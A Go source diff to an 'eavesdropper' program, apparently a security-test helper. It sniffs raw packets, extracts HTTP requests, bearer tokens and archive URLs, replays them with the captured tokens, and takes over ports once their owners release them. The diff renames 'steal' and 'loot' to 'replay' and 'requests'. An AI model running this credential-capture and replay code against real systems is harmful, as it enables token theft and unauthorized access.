@@ -35,9 +35,10 @@ import (
 const (
 	// discardPort is where the orders of the test go. Nobody listens there.
 	discardPort = 9
-	orderSteal  = "eavesdropper: steal"
+	orderReplay = "eavesdropper: replay"
 	orderEnd    = "eavesdropper: end"
-	patience    = 10 * time.Second
+	// timeout bounds each request that is made again, and the wait for a port.
+	timeout = 10 * time.Second
 	// wantedBuffer holds what passes while this program is not running.
 	wantedBuffer = 64 << 20
 	// tlsHandshake is the first byte of a client that speaks TLS.
@@ -45,9 +46,9 @@ const (
 )
 
 var (
-	request = regexp.MustCompile(`^(GET|POST|PATCH) (/\S*) HTTP/1\.1\r\n(?:.*\r\n)*?Host: (\S+)`)
-	bearer  = regexp.MustCompile(`Authorization: (Bearer \S+)`)
-	object  = regexp.MustCompile(`"archiveLocation":"([^"]+)"`)
+	head   = regexp.MustCompile(`^(GET|POST|PATCH) (/\S*) HTTP/1\.1\r\n(?:.*\r\n)*?Host: (\S+)`)
+	bearer = regexp.MustCompile(`Authorization: (Bearer \S+)`)
+	object = regexp.MustCompile(`"archiveLocation":"([^"]+)"`)
 )
 
 func main() {
@@ -74,7 +75,17 @@ type tap struct {
 	buffer  []byte
 }
 
-func tapOf(address netip.Addr) (*tap, error) {
+// newTap listens to an address, and makes the file for what passes.
+func newTap(address netip.Addr, capture string) (*tap, *os.File, error) {
+	tap, err := openTap(address)
+	if err != nil {
+		return nil, nil, err
+	}
+	out, err := os.Create(capture)
+	return tap, out, err
+}
+
+func openTap(address netip.Addr) (*tap, error) {
 	const ethIP = syscall.ETH_P_IP<<8&0xff00 | syscall.ETH_P_IP>>8
 	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM|syscall.SOCK_CLOEXEC, ethIP)
 	if err != nil {
@@ -138,22 +149,18 @@ func (t *tap) next() (payload []byte, order string, err error) {
 }
 
 func listen(address, capture string) error {
-	heard, err := netip.ParseAddr(address)
+	parsed, err := netip.ParseAddr(address)
 	if err != nil {
 		return err
 	}
-	out, err := os.Create(capture)
+	tap, out, err := newTap(parsed, capture)
 	if err != nil {
 		return err
 	}
 	defer out.Close()
-	tap, err := tapOf(heard)
-	if err != nil {
-		return err
-	}
 	fmt.Println("ready")
-	seen := &loot{known: map[string]bool{}}
-	stolen := false
+	seen := &requests{known: map[string]bool{}}
+	replayed := false
 	for {
 		payload, order, err := tap.next()
 		switch {
@@ -161,11 +168,11 @@ func listen(address, capture string) error {
 			return err
 		case order == orderEnd:
 			return nil
-		case order == orderSteal && !stolen:
-			// Orders are repeated. It must not steal from itself: what it hears from now on is no loot.
-			stolen = true
-			go steal(seen.ways)
-			seen = &loot{known: map[string]bool{}}
+		case order == orderReplay && !replayed:
+			// Orders are repeated. What it hears from now on are its own requests, which do not count.
+			replayed = true
+			go replay(seen.all)
+			seen = &requests{known: map[string]bool{}}
 		case order != "":
 		default:
 			if _, err := out.Write(payload); err != nil {
@@ -176,49 +183,50 @@ func listen(address, capture string) error {
 	}
 }
 
-// A way is a request that somebody else made.
-type way struct{ url, bearer string }
+// A request is one that somebody else made.
+type request struct{ url, bearer string }
 
-type loot struct {
+// requests has each URL once.
+type requests struct {
 	known map[string]bool
-	ways  []way
+	all   []request
 }
 
-func (l *loot) note(payload []byte) {
-	if found := request.FindSubmatch(payload); found != nil {
+func (r *requests) note(payload []byte) {
+	if found := head.FindSubmatch(payload); found != nil {
 		token := ""
 		if shown := bearer.FindSubmatch(payload); shown != nil {
 			token = string(shown[1])
 		}
-		l.add(way{"http://" + string(found[3]) + string(found[2]), token})
+		r.add(request{"http://" + string(found[3]) + string(found[2]), token})
 	}
 	for _, found := range object.FindAllSubmatch(payload, -1) {
-		l.add(way{string(found[1]), ""})
+		r.add(request{string(found[1]), ""})
 	}
 }
 
-func (l *loot) add(w way) {
-	if !l.known[w.url] {
-		l.known[w.url] = true
-		l.ways = append(l.ways, w)
+func (r *requests) add(seen request) {
+	if !r.known[seen.url] {
+		r.known[seen.url] = true
+		r.all = append(r.all, seen)
 	}
 }
 
-func steal(ways []way) {
-	client := http.Client{Timeout: patience}
-	for _, way := range ways {
-		fmt.Println("tried", way.url, get(&client, way))
+func replay(all []request) {
+	client := http.Client{Timeout: timeout}
+	for _, seen := range all {
+		fmt.Println("tried", seen.url, get(&client, seen))
 	}
 	fmt.Println("tried all")
 }
 
-func get(client *http.Client, way way) string {
-	ask, err := http.NewRequest(http.MethodGet, way.url, nil)
+func get(client *http.Client, seen request) string {
+	ask, err := http.NewRequest(http.MethodGet, seen.url, nil)
 	if err != nil {
 		return err.Error()
 	}
-	if way.bearer != "" {
-		ask.Header.Set("Authorization", way.bearer)
+	if seen.bearer != "" {
+		ask.Header.Set("Authorization", seen.bearer)
 	}
 	answer, err := client.Do(ask)
 	if err != nil {
@@ -234,19 +242,15 @@ func get(client *http.Client, way way) string {
 
 // squat answers on a port until it is told to end.
 func squat(port, capture string) error {
-	squatted, err := netip.ParseAddrPort(port)
+	parsed, err := netip.ParseAddrPort(port)
 	if err != nil {
 		return err
 	}
-	out, err := os.Create(capture)
+	tap, out, err := newTap(parsed.Addr(), capture)
 	if err != nil {
 		return err
 	}
 	defer out.Close()
-	tap, err := tapOf(squatted.Addr())
-	if err != nil {
-		return err
-	}
 	listener, err := take(port)
 	if err != nil {
 		return err
@@ -262,7 +266,7 @@ func squat(port, capture string) error {
 
 // take binds a port as soon as its owner has gone.
 func take(port string) (net.Listener, error) {
-	for deadline := time.Now().Add(patience); ; {
+	for deadline := time.Now().Add(timeout); ; {
 		listener, err := net.Listen("tcp", port)
 		if err == nil || time.Now().After(deadline) {
 			return listener, err
